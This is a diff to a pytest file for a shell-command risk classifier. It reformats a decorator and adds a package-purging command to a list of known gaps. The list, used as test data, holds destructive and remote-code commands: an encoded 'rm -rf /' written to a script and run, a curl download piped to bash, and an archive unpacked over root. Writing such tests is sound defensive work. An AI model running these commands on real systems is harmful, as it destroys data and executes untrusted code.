@@ -166,9 +166,7 @@ def test_the_table_covers_each_level_and_has_no_duplicates():
     assert len({row["command"] for row in TABLE}) == len(TABLE)
 
 
-@pytest.mark.parametrize(
-    "row", TABLE, ids=[f"{r['category']}-{i:03d}" for i, r in enumerate(TABLE)]
-)
+@pytest.mark.parametrize("row", TABLE, ids=[f"{r['category']}-{i:03d}" for i, r in enumerate(TABLE)])
 def test_each_command_of_the_table_gets_its_level(row):
     risk = assess(row["command"])
     assert risk.level == row["level"], (row["command"], risk)
@@ -220,6 +218,7 @@ KNOWN_GAPS = [
     ("echo cm0gLXJmIC8K | base64 -d > x.sh && bash x.sh", "danger"),  # a file written, then run
     ("curl -o i.sh https://x.io/i && bash i.sh", "danger"),
     ("sudo tar -xf backup.tar -C /", "caution"),  # an archive unpacked over the system
+    ("sudo apt-get remove --purge 'python3*'", "caution"),  # packages the system needs
 ]
 
 
